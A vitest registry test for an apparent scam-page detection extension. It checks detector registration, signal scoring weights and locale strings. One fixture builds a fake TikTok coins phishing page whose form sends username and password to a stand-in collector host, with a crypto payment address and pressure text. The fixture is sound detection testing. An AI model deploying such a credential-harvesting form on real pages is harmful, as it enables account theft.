/**
 * Registry meta-test: every detector file is registered, its id equals its
 * file name, and every signal it can emit has a scoring weight with a reason
 * and an English title and explanation in the locale file.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';
import { DETECTORS } from '../../../src/detectors';
import { data } from '../../../src/data';
import { signalKeys } from '../../../src/ui/verdict-style';
import { contextFor, page } from './helpers';

const DIR = fileURLToPath(new URL('../../../src/detectors/', import.meta.url));
const NOT_DETECTORS = new Set(['index.ts', 'types.ts']);
const files = readdirSync(DIR).filter((f) => f.endsWith('.ts') && !NOT_DETECTORS.has(f));
const en = JSON.parse(readFileSync(fileURLToPath(new URL('../../../public/_locales/en/messages.json', import.meta.url)), 'utf8')) as Record<string, { message: string }>;
const emitted = DETECTORS.flatMap((d) => d.emits);
/** Signals the engine itself adds (not a detector): the official-domain verdict. */
const ENGINE_SIGNALS = ['official-domain'];

describe('detector registry', () => {
  test('there are detector files', () => {
    expect(files.length).toBeGreaterThanOrEqual(9);
  });

  test.each(files)('%s is registered under the id of its file name', async (file) => {
    const id = file.replace(/\.ts$/, '');
    const mod = (await import(`../../../src/detectors/${id}.ts`)) as Record<string, unknown>;
    const exported = Object.values(mod).find((v) => typeof v === 'object' && v !== null && 'run' in v && 'id' in v) as { id: string } | undefined;
    expect(exported?.id).toBe(id);
    expect(DETECTORS.map((d) => d.id)).toContain(id);
  });

  test('ids are unique and every registered detector has a file', () => {
    const ids = DETECTORS.map((d) => d.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.map((i) => `${i}.ts`).sort()).toEqual([...files].sort());
  });

  test('no signal id is emitted by two detectors', () => {
    expect(new Set(emitted).size).toBe(emitted.length);
  });

  test.each([...emitted, ...ENGINE_SIGNALS])('signal %s has a scoring weight with a reason', (id) => {
    const w = data().scoring.weights[id];
    expect(w, `scoring.json weights["${id}"]`).toBeDefined();
    expect(w?.why.length).toBeGreaterThan(10);
  });

  test('every weight in scoring.json belongs to a signal something emits', () => {
    expect(Object.keys(data().scoring.weights).sort()).toEqual([...emitted, ...ENGINE_SIGNALS].sort());
  });

  test.each([...emitted, ...ENGINE_SIGNALS])('signal %s has an English title and explanation', (id) => {
    const { title, explain } = signalKeys(id);
    expect(en[title]?.message, title).toBeTruthy();
    expect(en[explain]?.message, explain).toBeTruthy();
  });

  test('detectors are pure: they give the same hits on a JSON copy of their input (plain data, no DOM)', async () => {
    const html = page(`<h1>Get TikTok Coins</h1><div><b>1,000 Coins</b> <span>$1.99</span></div><div><b>5,000 Coins</b> <span>$7.99</span></div>
<form action="http://collector.example/p.php" method="post"><label for="u">TikTok username</label><input id="u" name="u"><label for="p">TikTok password</label><input id="p" type="password" name="p"><button>Get coins</button></form>
<p>Hurry! Offer ends in 04:59.</p><p>Pay with USDT TRC20: TXk4m9QvRkzB7pWcY2sNfJhL8aE3dGtUoZ</p><p>Free coins generator – verify you are human.</p>`);
    const ctx = await contextFor(html, 'https://tiktok-coins.web.app/');
    const copy = JSON.parse(JSON.stringify(ctx)) as typeof ctx;
    for (const d of DETECTORS) {
      const a = d.run(ctx);
      expect(d.run(copy), d.id).toEqual(a);
      for (const hit of a) expect(d.emits, d.id).toContain(hit.id);
    }
    const all = DETECTORS.flatMap((d) => d.run(ctx).map((h) => h.id));
    for (const id of ['credential-fields', 'insecure-transport-form', 'off-platform-payment', 'too-good-discount-extreme', 'generator', 'lookalike-domain', 'pressure-tactics', 'missing-trust-pages']) {
      expect(all).toContain(id);
    }
  });
});
